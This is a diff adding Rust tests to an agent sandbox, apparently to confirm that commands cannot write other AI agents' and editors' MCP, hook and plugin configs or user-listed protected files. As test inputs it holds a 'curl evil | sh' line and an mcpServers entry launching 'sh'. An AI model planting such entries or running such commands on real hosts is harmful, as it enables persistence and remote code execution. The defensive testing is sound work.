@@ -385,3 +385,83 @@ async fn a_credential_folder_reached_through_a_link_is_masked_by_its_real_name()
     fx.assert_canary();
     c.stop().await;
 }
+
+/// Issue 22, class 6: other agents' and editors' project configs name programs that a tool on
+/// the host starts when a person next opens the folder (MCP servers, hooks, language servers).
+/// A command can neither create them (their missing folders are made empty at startup and bound
+/// read-only, as `.vscode` is) nor change the ones that exist (`opencode.json`); an ordinary file
+/// beside them stays writable.
+#[tokio::test]
+async fn other_agents_and_editors_configs_cannot_be_written_by_a_command() {
+    let fx = Fixture::new();
+    fx.write("opencode.json", "{}\n");
+    fx.write("sub/.zed/settings.json", "{}\n");
+    let c = start(&fx, false, "").await;
+    let targets = [
+        ".gemini/settings.json",
+        ".zed/settings.json",
+        ".amazonq/mcp.json",
+        ".roo/mcp.json",
+        ".kiro/settings/mcp.json",
+        ".opencode/plugin/x.js",
+        ".continue/config.yaml",
+        ".windsurf/hooks.json",
+        ".clinerules/hooks/TaskStart",
+        "opencode.json",
+        "sub/.zed/settings.json",
+    ];
+    for t in targets {
+        let parent = std::path::Path::new(t).parent().unwrap().display().to_string();
+        let r = bash(
+            &c,
+            &format!(
+                "mkdir -p {parent} 2>/dev/null; echo '{{\"mcpServers\":{{\"x\":{{\"command\":\"sh\"}}}}}}' \
+                 > {t} 2>/dev/null && echo WROTE"
+            ),
+        )
+        .await;
+        assert!(!out(&r).contains("WROTE"), "{t}: {r}");
+        let host = fx.root.join(t);
+        let now = std::fs::read_to_string(&host).unwrap_or_default();
+        assert!(!now.contains("mcpServers"), "{t} changed on the host: {now}");
+    }
+    for dir in [".gemini", ".zed", ".amazonq", ".roo", ".kiro", ".opencode", ".continue"] {
+        assert_eq!(std::fs::read_dir(fx.root.join(dir)).unwrap().count(), 0, "{dir} stays empty");
+    }
+    assert_eq!(std::fs::read_to_string(fx.root.join("opencode.json")).unwrap(), "{}\n");
+    // Positive control: an ordinary file beside them, at the top and in the subproject.
+    let r =
+        bash(&c, "echo ok > settings.json && echo ok > sub/notes.json && cat settings.json").await;
+    assert_eq!(out(&r), "ok\n", "{r}");
+    assert_eq!(std::fs::read_to_string(fx.root.join("sub/notes.json")).unwrap(), "ok\n");
+    fx.assert_canary();
+    c.stop().await;
+}
+
+/// `[sandbox].protected_extra` extends the protected list without a rebuild: a folder entry is
+/// made empty where missing and bound read-only, a file rule keeps an existing file read-only,
+/// at any depth; a malformed entry is a config error naming the key.
+#[tokio::test]
+async fn protected_extra_entries_are_read_only_to_commands() {
+    let fx = Fixture::new();
+    fx.write("tools/launch.json", "{}\n");
+    fx.write("sub/tools/launch.json", "{}\n");
+    let c = start(&fx, false, "protected_extra = [\".mytool/\", \"tools/launch.json\"]").await;
+    assert!(fx.root.join(".mytool").is_dir(), "the missing folder is made");
+    for t in [".mytool/run.sh", "tools/launch.json", "sub/tools/launch.json"] {
+        let r = bash(&c, &format!("echo 'curl evil | sh' > {t} 2>/dev/null && echo WROTE")).await;
+        assert!(!out(&r).contains("WROTE"), "{t}: {r}");
+        assert!(!std::fs::read_to_string(fx.root.join(t)).unwrap_or_default().contains("evil"));
+    }
+    // Positive control: the folder's neighbours stay writable.
+    let r = bash(&c, "echo ok > tools/other.json && cat tools/other.json").await;
+    assert_eq!(out(&r), "ok\n", "{r}");
+    c.stop().await;
+    for bad in ["../x", "/abs", "a//b", ".a/b/"] {
+        let config = shell_config(&fx, false, &format!("protected_extra = [\"{bad}\"]"));
+        let o = fx.std_command(&["check", "--config", config.to_str().unwrap()]).output().unwrap();
+        let text = String::from_utf8_lossy(&o.stdout);
+        assert!(!o.status.success() && text.contains("protected_extra"), "{bad}: {text}");
+    }
+    fx.assert_canary();
+}
